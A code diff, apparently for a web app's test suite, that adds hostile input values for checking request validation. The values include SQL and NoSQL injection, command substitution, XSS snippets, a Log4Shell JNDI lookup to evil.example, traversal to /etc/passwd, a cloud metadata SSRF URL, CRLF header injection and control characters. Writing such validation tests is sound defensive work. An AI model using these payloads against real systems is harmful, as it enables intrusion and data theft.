@@ -25,6 +25,18 @@ export const hostileValues: readonly unknown[] = [
   'x'.repeat(30_000),
 ];
 
+/** What interpreters, browsers, mails and terminals take for more than text. */
+export const hostileTexts: readonly string[] = [
+  ...['\uD800', 'a\uDFFFb', 'a\u0000b', '\u202Etxt.exe', '\u0007\u001B[31m', '%s%n%p'],
+  ...["' OR '1'='1", '{"$where":"sleep(5000)"}', '$ne', '`id`', '{{7*7}}', '=cmd|" /c calc"!A1'],
+  ...['<svg/onload=alert(1)>', '"><script>alert(1)</script>', 'javascript:alert(1)'],
+  ...['${jndi:ldap://evil.example/a}', '../../etc/passwd', 'http://169.254.169.254/latest/'],
+  ...['x\r\nBcc: evil@evil.example', 'x%0d%0aSet-Cookie:a=b', '__proto__', 'constructor', '1e309'],
+];
+
+/** Passwords may hold any character, tokens are compared and never shown, a pasted text is not stored. */
+const anyCharacter = new Set(['password', 'currentPassword', 'token', 'code', 'text']);
+
 /** Stored fields that no request may set. */
 export const foreignFields: Record<string, unknown> = {
   _id: '0'.repeat(24),
@@ -66,21 +78,30 @@ function isPlain(present: unknown, value: unknown): boolean {
   return ['number', 'boolean'].includes(typeof value) && isSameType;
 }
 
-export type HostileBody = { what: string; body: unknown };
+export type HostileBody = { what: string; body: unknown; field?: string };
 
 /** A valid body with one thing wrong, for every case. */
 export function hostileBodies(good: object, schema: z.ZodType): HostileBody[] {
   const wrongValues = pathsOf(good).flatMap(([path, present]) =>
-    hostileValues.flatMap((value) => {
+    [...hostileValues, ...withControls(path, present)].flatMap((value) => {
       const body = put(good, path, value);
       if (isPlain(present, value) && schema.safeParse(body).success) return [];
-      return [{ what: `${path.join('.')}: ${short(value)}`, body }];
+      const field = path.join('.');
+      const isNamed = typeof value === 'string' && /\p{Cc}/u.test(value);
+      return [{ what: `${field}: ${short(value)}`, body, ...(isNamed && { field }) }];
     }),
   );
   const foreign = Object.entries(foreignFields)
     .filter(([field]) => !(field in good) || field === 'constructor')
     .map(([field, value]) => ({ what: `foreign ${field}`, body: { ...good, [field]: value } }));
   return [...wrongValues, ...foreign];
+}
+
+function withControls(path: string[], present: unknown): unknown[] {
+  if (anyCharacter.has(path.at(-1) ?? '')) return [];
+  const texts = ['\u0000', '\u0007', '\u001b', '\u007f', '\u0085'].map((sign) => `ab${sign}cd`);
+  if (Array.isArray(present)) return texts.map((text) => [text]);
+  return typeof present === 'string' ? texts : [];
 }
 
 type Path = [path: string[], value: unknown];
@@ -140,6 +161,9 @@ export const hostileForms: readonly RequestParts[] = [
   { form: { calendarLink: 'javascript:alert(1)' } },
   { form: { calendarLink: 'https://user@evil.example' } },
   { form: { phoneNumber: '<script>' } },
+  { form: { phoneNumber: '+49 170\u0007 5550123' } },
+  { form: { email: 'anna\u0000@beispiel.example' } },
+  { form: { calendarLink: 'https://kalender.example/\u0085a' } },
   { form: { phoneNumber: 'x'.repeat(25_000) } },
   { form: Object.fromEntries(Array.from({ length: 60 }, (_, index) => [`field${index}`, 'x'])) },
   ...Object.keys(foreignFields).map((field) => ({ form: { [field]: 'x' } })),
